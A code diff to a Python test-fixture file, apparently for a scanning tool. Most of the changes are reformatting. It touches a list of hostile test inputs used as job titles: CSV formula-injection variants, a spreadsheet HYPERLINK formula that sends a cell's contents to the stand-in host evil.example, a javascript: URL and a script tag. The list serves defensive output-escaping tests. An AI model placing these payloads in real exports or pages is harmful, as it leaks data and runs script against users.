@@ -41,7 +41,7 @@ HOSTILE: Final = {
     "no-break space": "\u00a0=1+1",
     "byte order mark": "\ufeff=1+1",
     "full width": "\uff1d1+1",
-    "link": "=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")",
+    "link": '=HYPERLINK("https://evil.example/?"&A1,"here")',
     "script address": "javascript:alert(1)",
     "markup": "<script>alert(1)</script>&amp;\"'",
     "end of character data": "]]>",
@@ -70,7 +70,9 @@ def said(module: str = "web", at: int = AT, *, evidence: str = "e", confidence: 
     return SaidBy(module, 1, at, confidence, uuid5(SCAN, module).bytes, (record,), **more)
 
 
-def facts(about: Entity, *, values: Iterable[tuple[str, str | int | float | bool]] = (), **fields: object) -> EntityFacts:
+def facts(
+    about: Entity, *, values: Iterable[tuple[str, str | int | float | bool]] = (), **fields: object
+) -> EntityFacts:
     return EntityFacts(
         **{  # type: ignore[arg-type]
             "entity": about,
@@ -151,10 +153,17 @@ def hostile() -> list[Facts]:
         for text, key in keys.items()
     ]
     relations = [
-        led("member_of", Entity("person", ("web", key)), Entity("organization", ("name", key, "")), details={"title": text})
+        led(
+            "member_of",
+            Entity("person", ("web", key)),
+            Entity("organization", ("name", key, "")),
+            details={"title": text},
+        )
         for text, key in keys.items()
     ]
-    people = [facts(each.source, values=[("job_title", text)]) for each, text in zip(relations, HOSTILE.values(), strict=True)]
+    people = [
+        facts(each.source, values=[("job_title", text)]) for each, text in zip(relations, HOSTILE.values(), strict=True)
+    ]
     return [Facts(entities=(facts(target), *found)), Facts(entities=tuple(people), relations=tuple(relations))]
 
 
@@ -178,7 +187,9 @@ def network(hosts: int, *, piece: int = 500) -> Iterator[Facts]:
         yield Facts(entities=tuple(told), relations=tuple(relations))
 
 
-def finding(about: Entity, *, category: str = "exposure", number: int = 1, text: str = "A database answers") -> FindingView:
+def finding(
+    about: Entity, *, category: str = "exposure", number: int = 1, text: str = "A database answers"
+) -> FindingView:
     named = Named(about.id.hex(), about.type, about.value)
     row = FindingRow(
         id=UUID(int=number), scan=SCAN, rule="exposed_database", rule_version=2, category=category, severity="high",
